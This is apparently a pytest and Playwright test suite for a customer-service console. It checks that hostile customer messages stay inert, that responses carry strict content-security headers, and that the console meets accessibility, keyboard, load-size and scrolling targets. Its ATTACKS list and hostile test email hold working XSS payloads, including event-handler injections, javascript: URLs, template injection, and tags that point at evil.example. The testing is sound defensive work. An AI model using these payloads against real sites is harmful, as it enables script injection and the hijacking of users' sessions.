"""The console against hostile content, for everybody's eyes and hands, and against the clock."""

from __future__ import annotations

import email.message
import email.policy
import os
import re
from collections.abc import AsyncIterator
from typing import Any

import pytest
import pytest_asyncio

from connectors.simulators.world import MAILBOX, PASSWORD, TOKEN, World, world
from tests.console_stage import THOROUGH, Screen, chromium, screen

pytestmark = [pytest.mark.asyncio(loop_scope="module"), pytest.mark.once]

RAN = "window.ran = (window.ran || 0) + 1"
ATTACKS = [
    f"<script>{RAN}</script>",
    f"<img src=x onerror='{RAN}'>",
    f"<svg onload='{RAN}'>",
    f'"><script>{RAN}</script>',
    f"'-({RAN})-'",
    f"javascript:{RAN}",
    f"https://example.com/\"onmouseover='{RAN}'",
    "https://example.com/'><img src=x onerror=alert(1)>",
    f"<iframe srcdoc='<script>parent.{RAN}</script>'></iframe>",
    f"<a href='javascript:{RAN}'>x</a>",
    f"<math><mtext><table><mglyph><style><img src onerror='{RAN}'>",
    f"<details open ontoggle='{RAN}'>",
    f"<body onload='{RAN}'>",
    "{{constructor.constructor('window.ran=1')()}}",
    "${window.ran=1}",
    "<base href='https://evil.example/'>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<link rel=stylesheet href='https://evil.example/x.css'>",
    "<form action='https://evil.example/'><button>send</button></form>",
    f"<style>@import 'https://evil.example/x.css'; *{{background:url(javascript:{RAN})}}</style>",
    f"<object data='data:text/html,<script>parent.{RAN}</script>'></object>",
    f"<embed src='data:image/svg+xml,<svg onload=\"{RAN}\"/>'>",
    "\u202e<script>reversed</script>\u0000\ufeff",
    "]]><!--<script>--><script>x</script>",
]
VIEWS = ["#/conversations?view=all", "#/drafts", "#/account"]


@pytest_asyncio.fixture(scope="module", loop_scope="module")
async def browser() -> AsyncIterator[Any]:
    async with chromium() as browser:
        yield browser


@pytest_asyncio.fixture(scope="module", loop_scope="module")
async def shop() -> AsyncIterator[World]:
    async with world() as made:
        await made.people()
        yield made


async def attack_by_mail(shop: World) -> None:
    """Send a mail whose sender, subject, HTML and files are all hostile."""
    one = email.message.EmailMessage(policy=email.policy.SMTP)
    one["From"], one["To"] = '"<img src=x onerror=window.ran=1>" <eve@customer.example>', MAILBOX
    one["Subject"], one["Message-ID"] = "<script>window.ran=1</script>", "<attack-1@customer.example>"
    one.set_content("hostile mail\n" + "\n".join(ATTACKS))
    one.add_alternative("<p>hostile mail</p>" + "\n".join(ATTACKS), subtype="html")
    page = f"<!doctype html><script>{RAN}; opener.{RAN}; parent.{RAN}</script>".encode()
    picture = f"<svg xmlns='http://www.w3.org/2000/svg' onload='{RAN}'><script>{RAN}</script></svg>".encode()
    one.add_attachment(page, maintype="text", subtype="html", filename="page.html")
    one.add_attachment(picture, maintype="image", subtype="svg+xml", filename="picture.svg")
    one.add_attachment(page, maintype="image", subtype="png", filename="picture.png")
    await shop.mail.deliver(one.as_bytes())


async def untouched(desk: Screen) -> None:
    """Nothing has run, nothing foreign was asked for, the page is where it was."""
    assert None is await desk.page.evaluate("() => window.ran ?? null")
    assert [] == desk.strangers
    assert desk.page.url.startswith(f"{desk.base}/console/")
    for frame in desk.page.frames[1:]:
        assert frame.url.startswith("blob:")


async def test_nothing_of_a_customer_runs(browser: Any, shop: World) -> None:
    """Every attack stands as text in list, thread, card and search; mail as it was laid out runs and loads nothing."""
    for attack in ATTACKS:
        await shop.wechat.write("o-eve", attack.replace("\u0000", ""))
    await attack_by_mail(shop)
    desk = await screen(browser, shop.base)
    await desk.enter("boss", where="#/conversations?view=all")
    page = desk.page

    await desk.open("o-eve")
    for attack in ATTACKS[:4]:
        shown = await page.locator(".message.theirs .text").all_inner_texts()
        assert any(attack in text for text in shown), attack
    for link in await page.locator(".message.theirs a").all():
        assert re.match(r"https?://", await link.get_attribute("href") or "")
        assert "noopener" in (await link.get_attribute("rel") or "")
    await untouched(desk)

    await desk.go("#/conversations?view=all")
    await desk.open("hostile mail")
    assert "<img src=x onerror=window.ran=1>" in await page.inner_text(".thread-head h1")
    await page.click("button:has-text('原始排版')")
    frame = await (await desk.seen("iframe.original")).content_frame()
    await frame.wait_for_load_state()
    assert "hostile mail" in await frame.inner_text("body")
    assert "null" == await frame.evaluate("() => self.origin")
    await untouched(desk)

    files = page.locator(".message .file")
    await page.wait_for_function("() => document.querySelectorAll('.message .file').length === 3")
    assert 3 == await files.count(), "a file that is no harmless picture is shown"
    async with page.expect_download() as download:
        await files.first.click()
    assert (await download.value).suggested_filename.endswith((".html", ".svg", ".png"))
    await untouched(desk)

    await page.fill(".find", "<img src=x")
    await desk.seen(".scope:has-text('搜索结果')")
    await untouched(desk)
    await desk.page.context.close()


async def test_every_answer_closes_its_doors(shop: World) -> None:
    """Whatever the hub answers, pages, errors, files, platforms' calls: a policy without unsafe-inline or -eval."""
    paths = [
        *("/", "/console", "/console/", "/console/x/app.js", "/console/x/none", "/nothing", "/healthz", "/readyz"),
        *("/metrics", "/hooks/none", "/hooks/shop-wechat", "/files/none", "/u/none", "/s/none", "/chat/none"),
        *("/chat/site-chat", "/chat/site-chat/widget.js", "/api/v1/none", "/api/v1/conversations", "/api/v1/docs"),
        *("/api/v1/openapi.json", "/api/v1/session/ways", "/api/v1/reports/service?format=html"),
    ]
    said = await shop.api("GET", "/openapi.json")
    paths += [path.replace("{id}", "c1-1-0") for path in said["paths"] if "events" not in path]
    for headers in ({}, {"Authorization": f"Bearer {TOKEN}"}):
        for path in paths:
            async with shop.http.get(f"{shop.base}{path}", headers=headers, allow_redirects=False) as answer:
                policy = answer.headers.get("Content-Security-Policy", "")
                assert "default-src 'none'" in policy, (path, answer.status)
                assert "unsafe" not in policy, path
                assert "nosniff" == answer.headers.get("X-Content-Type-Options"), path


@pytest.mark.parametrize("dark", [False, True], ids=["light", "dark"])
async def test_everybody_can_use_it(browser: Any, shop: World, dark: bool) -> None:
    """Axe finds nothing serious at the door, in any view, in dialogs and menus, on a telephone and at a desk."""
    await shop.wechat.write("o-axe", "想看看可以吗？还有 https://shop.example/a 这个链接")
    door = await screen(browser, shop.base, dark=dark)
    await door.page.goto(f"{shop.base}/console/")
    await door.seen("input[name=password]")
    assert [] == await door.barriers()
    await door.page.context.close()

    for width in (1600, 375) if THOROUGH or not dark else (1280,):
        desk = await screen(browser, shop.base, size=(width, 800), dark=dark)
        page = desk.page
        await desk.enter("lilei", where=VIEWS[0])
        assert ("dark" if dark else "light") == await page.get_attribute("html", "data-theme")
        for where in VIEWS:
            await desk.go(where)
            await desk.seen(".conversation" if "conversations" in where else ".page h1")
            assert [] == await desk.barriers(), where
        await desk.go(VIEWS[0])
        await desk.open("想看看")
        assert [] == await desk.barriers()
        await page.click("[data-act=more]")
        await desk.seen(".menu")
        assert [] == await desk.barriers()
        await page.keyboard.press("Escape")
        await page.click("[data-act=assign]")
        await desk.seen("dialog .choices button")
        assert [] == await desk.barriers()
        await page.keyboard.press("Escape")
        await page.evaluate("document.activeElement.blur()")
        await page.keyboard.press("?")
        await desk.seen("dialog .keys")
        assert [] == await desk.barriers()
        assert [] == desk.faults
        await page.context.close()


async def test_the_keyboard_is_enough(browser: Any, shop: World) -> None:
    """From the door to an answer and the next conversation without a pointer; the focus is always seen."""
    await shop.wechat.write("o-key1", "第一个键盘客户")
    await shop.wechat.write("o-key2", "第二个键盘客户")
    desk = await screen(browser, shop.base)
    page = desk.page
    await page.goto(f"{shop.base}/console/#/conversations?view=all")
    await desk.seen("input[name=username]:focus")
    await page.keyboard.type("lilei")
    await page.keyboard.press("Tab")
    await page.keyboard.type(PASSWORD)
    await page.keyboard.press("Enter")
    await desk.seen(".conversation:has-text('第二个键盘客户')")
    await page.keyboard.press("j")
    await desk.seen(".message:has-text('第二个键盘客户')")
    await page.keyboard.press("j")
    await desk.seen(".message:has-text('第一个键盘客户')")
    await page.keyboard.press("r")
    await desk.seen(".composer textarea:focus")
    await page.keyboard.type("收到")
    await page.keyboard.press("Enter")
    await desk.seen(".message.ours:has-text('收到')")
    await page.keyboard.press("Escape")
    await page.keyboard.press("e")
    await desk.seen(".thread-head .chip:has-text('已解决')")
    await page.keyboard.press("/")
    await desk.seen(".find:focus")
    await page.context.close()


async def test_it_is_there_at_once(browser: Any, shop: World) -> None:
    """On loopback: less than 100 kB until the list stands, and that within a second on a machine of one's own."""
    await shop.wechat.write("o-once", "在吗")
    desk = await screen(browser, shop.base)
    await desk.enter("lilei", where="#/conversations?view=all")
    page = desk.page
    session = await page.context.new_cdp_session(page)
    await session.send("Network.enable")
    sizes: list[float] = []
    session.on("Network.loadingFinished", lambda done: sizes.append(done["encodedDataLength"]))
    await session.send("Network.setCacheDisabled", {"cacheDisabled": True})
    times = []
    for _ in range(3):
        sizes.clear()
        await page.reload()
        await desk.seen(".conversation")
        times.append(await page.evaluate("() => performance.now()"))
        own = await page.evaluate(
            "() => performance.getEntriesByType('resource').filter((one) => one.name.includes('/console/'))"
            ".reduce((sum, one) => sum + one.transferSize, 0)"
        )
    assert own < 100_000, f"{own} bytes"
    limit = 1000 if os.environ.get("HUILIU_LONG") else 10_000  # a shared machine may be slow; long runs have it alone
    assert min(times) < limit, times
    await page.context.close()


SCROLL = """async () => {
  const { virtualList } = await import(MODULE);
  const rows = 100_000;
  const list = virtualList({
    rowHeight: 86, label: "rows", key: (index) => `row ${index}`, draw: (index) => {
      const row = document.createElement("a");
      row.href = `#/${index}`;
      row.textContent = `row ${index}`;
      return row;
    },
  });
  const sheet = document.createElement("link");
  sheet.rel = "stylesheet";
  sheet.href = MODULE.replace("core/virtual.js", "style/desk.css");
  await new Promise((done) => { sheet.onload = done; document.head.append(sheet); });
  document.body.replaceChildren(list.element);
  list.element.style.height = "700px";
  list.show(rows);
  const tasks = [];
  const watch = (seen) => tasks.push(...seen.getEntries().map((one) => one.duration));
  new PerformanceObserver(watch).observe({ entryTypes: ["longtask"] });
  let most = 0;
  for (let step = 0; step <= 200; step += 1) {
    list.scroller.scrollTop = (step / 200) * (rows * 86 - 700);
    await new Promise(requestAnimationFrame);
    most = Math.max(most, list.element.querySelectorAll("a").length);
  }
  await new Promise(requestAnimationFrame);
  await new Promise((later) => setTimeout(later, 0));
  const last = list.element.querySelector(`[data-index="${rows - 1}"]`);
  return { most, longest: Math.max(0, ...tasks), last: last?.textContent ?? "" };
}"""


async def test_a_hundred_thousand_rows_scroll(browser: Any, shop: World) -> None:
    """From the first of 100,000 rows to the last: only what is seen is in the page, and no step stalls it."""
    desk = await screen(browser, shop.base)
    await desk.page.goto(f"{shop.base}/console/")
    await desk.seen("input[name=password]")
    source = await desk.page.get_attribute("script[type=module]", "src")
    module = f"/console/{str(source).partition('/')[0]}/core/virtual.js"
    for _ in range(3):  # a machine that stands still does not do so three times
        seen = await desk.page.evaluate(SCROLL.replace("MODULE", repr(module)))
        if seen["longest"] < 200:
            break

    assert "row 99999" == seen["last"]
    assert seen["most"] < 60
    assert seen["longest"] < 200 if os.environ.get("HUILIU_LONG") else seen["longest"] < 2000, seen
    await desk.page.context.close()
